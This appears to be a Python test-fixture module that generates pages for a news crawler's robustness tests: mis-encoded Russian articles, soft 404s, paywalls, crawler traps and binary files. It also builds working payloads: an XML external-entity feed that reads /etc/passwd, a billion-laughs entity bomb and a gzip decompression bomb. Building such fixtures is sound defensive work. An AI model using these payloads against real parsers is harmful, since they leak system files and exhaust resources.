"""The bodies the hostile endpoints serve: mis-encoded articles, non-articles, binaries and traps."""

from __future__ import annotations

import json
import struct
import zlib
from functools import cache
from html import escape

SITE = "The Hostile Herald"
PUBLISHED = "2026-03-14T08:30:00+00:00"

# Every article below reads as a real story to an extractor; the test checks that the
# lead sentence of each comes out of the index decoded exactly as written here.
RUSSIAN_BODY = [
    "Жители посёлка давно просили администрацию обратить внимание на состояние причала. "
    "Весной лёд повредил сваи, и переправу пришлось закрыть. Всё это время людям приходилось "
    "добираться до районного центра в объезд, через мост у старой мельницы, а это почти сорок "
    "километров по разбитой дороге.",
    "Подрядчик заменил двенадцать опор, укрепил настил и установил новые перила. По словам "
    "инженера, который руководил работами, запас прочности теперь рассчитан на самый сильный "
    "ледоход за последние полвека. Отдельно проверили двигатель парома и спасательное "
    "оборудование.",
    "В первый же день переправой воспользовались более двухсот человек. Многие везли на другой "
    "берег саженцы и инструменты для дачных участков. Водитель рейсового автобуса признался, "
    "что впервые за месяц не опоздал ни на одну остановку, потому что пассажиры снова приходят "
    "к причалу вовремя.",
    "Администрация обещает, что летом паром будет ходить каждые сорок минут, а в выходные дни "
    "добавят вечерние рейсы. Стоимость билета не изменилась. Следующим этапом станет ремонт "
    "зала ожидания, где планируют поставить скамейки, обогреватели и табло с расписанием.",
]

# slug -> (title, lead sentence); the lead is what a test looks for in articles.text.
RUSSIAN_STORIES = {
    "cp1251-no-charset": ("Паром снова ходит по расписанию",
                          "Паром через Северную протоку снова ходит по расписанию после трёх "
                          "недель ремонта."),
    "cp1251-wrong-header": ("Библиотека работает дольше",
                            "Городская библиотека продлила часы работы до десяти вечера по "
                            "будним дням."),
    "cp1251-wrong-meta": ("Хор из Верхних Полян на конкурсе",
                          "Школьный хор из Верхних Полян занял второе место на областном "
                          "конкурсе."),
    "koi8r": ("Первый снег в долине",
              "Метеорологи обещают первый снег в долине уже к концу следующей недели."),
}

UNICODE_TITLE = "A ferry festival in many scripts"
UNICODE_LEAD = ("Visitors to the Łódź–Malmö ferry festival read the signs in Ελληνικά, 日本語 and "
                "Українська without a single broken glyph.")
ENGLISH_BODY = [
    "The harbour authority printed its timetable in eleven languages this year, after volunteers "
    "complained that last summer's posters had been readable only by the people who wrote them. "
    "The new boards hang at both landings and on the upper deck of every boat.",
    "Organisers counted just over four thousand tickets on the opening weekend, a record for an "
    "event that began as a picnic for the crews of two small cargo vessels. Most visitors came "
    "for the evening concerts on the pier and stayed for the fireworks over the strait.",
    "Next year the festival plans a night crossing with a choir on board and a market on the "
    "quay. The harbour master said the extra sailings will not disturb the regular service, "
    "because the festival boats use the old western berth that has stood empty since spring.",
]
DUPLICATE_TITLE = "Lighthouse keeper retires after forty winters"
DUPLICATE_LEAD = ("The keeper of the Gull Point light switched off the lamp for the last time on "
                  "Sunday and handed the keys to the coastal trust.")
SYNDICATED_TITLE = "Night trains return to the valley line"
SYNDICATED_LEAD = ("Sleeper carriages will run on the valley line again from May, twelve years "
                   "after the last night train left the junction.")
CONTROL_TITLE = "Quiet harbour reopens its fish market"
CONTROL_LEAD = ("The covered fish market on the quiet harbour opened its doors again on Saturday "
                "after a winter of repairs to the roof.")


def article(*, title: str, paragraphs: list[str], base: str, path: str, lang: str = "en",
            canonical: str | None = None, head: str = "") -> str:
    """A plain, well-formed news article page (markup only: the caller encodes it)."""
    body = "\n".join(f"    <p>{escape(p)}</p>" for p in paragraphs)
    return f"""<!DOCTYPE html>
<html lang="{lang}">
<head>
{head}<title>{escape(title)} - {SITE}</title>
<meta property="og:type" content="article">
<meta property="article:published_time" content="{PUBLISHED}">
<link rel="canonical" href="{escape(canonical or base + path)}">
</head>
<body>
<header class="masthead"><a href="/">{SITE}</a></header>
<main>
  <article>
    <h1>{escape(title)}</h1>
    <p class="byline">By the newsroom staff, <time datetime="{PUBLISHED}">March 14, 2026</time></p>
{body}
  </article>
</main>
<footer><p>Letters to the editor are welcome at the front desk.</p></footer>
</body>
</html>
"""


def russian_article(slug: str, base: str, path: str, head: str = "") -> str:
    title, lead = RUSSIAN_STORIES[slug]
    return article(title=title, paragraphs=[lead, *RUSSIAN_BODY], base=base, path=path,
                   lang="ru", head=head)


def soft_404() -> bytes:
    return f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Page not found - {SITE}</title></head>
<body><header class="masthead"><a href="/">{SITE}</a></header>
<main><h1>Page not found</h1>
<p>We looked everywhere, but this page has gone missing. It may have been moved or unpublished.</p>
<p><a href="/">Back to the front page</a></p></main></body></html>
""".encode()


def paywall_stub(base: str, path: str) -> bytes:
    ld = json.dumps({"@context": "https://schema.org", "@type": "NewsArticle",
                     "headline": "Council weighs a toll on the harbour bridge",
                     "datePublished": PUBLISHED, "isAccessibleForFree": False,
                     "hasPart": {"@type": "WebPageElement", "isAccessibleForFree": False,
                                 "cssSelector": ".locked"}})
    head = f'<script type="application/ld+json">{ld}</script>\n'
    page = article(title="Council weighs a toll on the harbour bridge", base=base, path=path,
                   head=head, paragraphs=[
                       "Councillors will decide next month whether drivers should pay to cross "
                       "the harbour bridge at rush hour."])
    locked = ('<div class="locked"><p><strong>Subscribe to continue reading.</strong> '
              'Already a subscriber? <a href="/login">Log in</a>.</p></div>')
    return page.replace("  </article>", f"    {locked}\n  </article>").encode()


def js_shell() -> bytes:
    return f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>{SITE}</title>
<script src="/static/runtime.3f9a.js" defer></script>
<script src="/static/app.c0de.js" defer></script></head>
<body><div id="root"></div>
<script>window.__INITIAL_STATE__ = {{"route": "/story", "hydrate": true}};</script>
</body></html>
""".encode()


def front_page(links: int) -> bytes:
    teasers = "\n".join(
        f'<article class="teaser"><h3><a href="/hostile/topic/{n}">Update {n} from the '
        f'newsroom</a></h3></article>' for n in range(links))
    return f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>{SITE} - front page</title>
<meta property="og:type" content="website"></head>
<body><header class="masthead"><a href="/">{SITE}</a></header>
<main><h1>Today's front page</h1>
{teasers}
</main></body></html>
""".encode()


def nested_divs(depth: int) -> bytes:
    return (b"<!DOCTYPE html><html><head><title>Deep</title></head><body>" + b"<div>" * depth
            + b"<p>The bottom of the well.</p>" + b"</div>" * depth + b"</body></html>")


def many_attributes(count: int, base: str, path: str) -> bytes:
    # One tag carrying `count` attributes, inside an otherwise ordinary story: the
    # extractor's time goes into that tag, not into the text.
    attributes = " ".join(f"k{n}" for n in range(count))
    page = article(title=CONTROL_TITLE + " (annotated)", base=base, path=path,
                   paragraphs=[CONTROL_LEAD, *ENGLISH_BODY])
    return page.replace("<main>", f"<main {attributes}>").encode()


def oversized(size: int, base: str, path: str) -> bytes:
    """An ordinary story followed by enough comment markup to pass `size` bytes."""
    page = article(title="The longest letters page ever printed", base=base, path=path,
                   paragraphs=[CONTROL_LEAD, *ENGLISH_BODY])
    filler = "<!-- " + "reader letters archive " * 64 + "-->\n"
    repeat = size // len(filler) + 1
    return page.replace("</body>", filler * repeat + "</body>").encode()


def calendar(year: int, month: int) -> bytes:
    previous = (year, month - 1) if month > 1 else (year - 1, 12)
    following = (year, month + 1) if month < 12 else (year + 1, 1)
    return f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Events in {year}-{month:02d}</title></head>
<body><h1>Community events, {year}-{month:02d}</h1>
<p>No events have been listed for this month yet.</p>
<nav><a href="/hostile/calendar/{previous[0]:04d}/{previous[1]:02d}">Previous month</a>
<a href="/hostile/calendar/{following[0]:04d}/{following[1]:02d}">Next month</a></nav>
</body></html>
""".encode()


def archive_page(page: int) -> bytes:
    return f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Archive, page {page}</title></head>
<body><h1>Story archive, page {page}</h1>
<p>Older stories are on the next page.</p>
<nav><a href="/hostile/archive?page={page + 1}">Older stories</a></nav>
</body></html>
""".encode()


def links_page(title: str, hrefs: list[str]) -> bytes:
    items = "\n".join(f'<li><a href="{escape(h)}">Story {n + 1}</a></li>' for n, h in enumerate(hrefs))
    return f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>{escape(title)}</title></head>
<body><h1>{escape(title)}</h1><ul>
{items}
</ul></body></html>
""".encode()


def rss(title: str, links: list[str]) -> bytes:
    items = "".join(f"<item><title>Item {n + 1}</title><link>{escape(link)}</link>"
                    f"<guid isPermaLink=\"false\">hostile-{n + 1}</guid></item>"
                    for n, link in enumerate(links))
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
            f"<title>{escape(title)}</title><link>http://hostile.invalid/</link>"
            f"<description>Links a careful crawler must survive</description>{items}"
            "</channel></rss>\n").encode()


def external_entity_feed(base: str) -> bytes:
    """An RSS feed whose item link would carry /etc/passwd if the parser read external entities."""
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
            '<rss version="2.0"><channel><title>Leaky</title><link>http://hostile.invalid/</link>'
            f"<description>x</description><item><title>Leak</title>"
            f"<link>{base}/hostile/a/leak?d=&secret;</link></item></channel></rss>\n").encode()


def entity_bomb_feed(levels: int = 10, fanout: int = 10) -> bytes:
    """"Billion laughs": `fanout ** levels` copies of one word if entities were expanded."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * fanout}">' for n in range(1, levels))
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            f'<!DOCTYPE rss [<!ENTITY e0 "laugh">{entities}]>\n'
            '<rss version="2.0"><channel><title>Laughs</title><link>http://hostile.invalid/</link>'
            f"<description>&e{levels - 1};</description><item><title>&e{levels - 1};</title>"
            "<link>http://hostile.invalid/x</link></item></channel></rss>\n").encode()


@cache
def gzip_bomb(inflated: int = 110 * 1024 * 1024) -> bytes:
    """A gzip member of ~110 KB that inflates to `inflated` bytes of zeros (built once)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)   # wbits 31: a gzip container
    block = bytes(1024 * 1024)
    parts = [compressor.compress(block) for _ in range(inflated // len(block))]
    return b"".join(parts) + compressor.flush()


def png(width: int = 64, height: int = 64) -> bytes:
    """A valid greyscale gradient PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))
    rows = b"".join(b"\x00" + bytes((x * 4 + y) % 256 for x in range(width)) for y in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows))
            + chunk(b"IEND", b""))


def pdf() -> bytes:
    """A one-page PDF saying one line, with a correct cross-reference table."""
    stream = b"BT /F1 18 Tf 72 720 Td (Annual report of the harbour trust) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, offsets = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out
